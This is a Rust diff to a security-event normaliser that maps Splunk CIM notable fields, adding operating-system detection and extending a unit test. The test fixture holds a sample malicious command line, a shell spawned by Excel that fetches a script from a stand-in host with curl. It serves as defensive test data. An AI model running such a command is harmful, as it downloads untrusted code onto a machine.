@@ -547,6 +547,24 @@ fn splunk_cim(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
         }
     }
     set("host.name", text("dest").or_else(|| text("host")));
+    // Asset enrichment names the operating system (`dest_os`, or the endpoint's `os`).
+    if let Some(os) = text("dest_os").or_else(|| text("os")) {
+        let l = os.to_lowercase();
+        let family = if l.contains("windows") {
+            Some("windows")
+        } else if l.contains("mac") || l.contains("os x") || l.contains("darwin") {
+            Some("macos")
+        } else if ["linux", "ubuntu", "debian", "red hat", "rhel", "centos", "rocky", "alma", "suse", "amazon", "fedora"]
+            .iter()
+            .any(|k| l.contains(k))
+        {
+            Some("linux")
+        } else {
+            None
+        };
+        set("host.os.type", family.map(str::to_owned));
+        set("host.os.name", Some(os));
+    }
     set(
         "rule.name",
         text("rule_name").or_else(|| text("search_name")),
@@ -1379,8 +1397,10 @@ mod tests {
             "annotations.mitre_attack": ["T1059.004"], "dest": "MBP-1", "user": "CORP\\lchen",
             "process": "/bin/sh -c curl -sk https://x.example/m.sh", "process_name": "sh", "process_path": "/bin/sh", "process_id": "15502",
             "parent_process": "/Applications/Microsoft Excel.app/Contents/MacOS/Microsoft Excel", "parent_process_name": "Microsoft Excel",
-            "parent_process_path": "/Applications/Microsoft Excel.app/Contents/MacOS/Microsoft Excel"}), "x").unwrap();
+            "parent_process_path": "/Applications/Microsoft Excel.app/Contents/MacOS/Microsoft Excel", "dest_os": "macOS 15.2"}), "x").unwrap();
         assert_eq!(n.id, "E13@@notable@@ee4f");
+        assert_eq!(n.doc["host"]["os"]["type"], "macos", "from the asset's dest_os");
+        assert_eq!(n.doc["host"]["os"]["name"], "macOS 15.2");
         assert_eq!(
             n.doc["process"]["command_line"],
             "/bin/sh -c curl -sk https://x.example/m.sh"
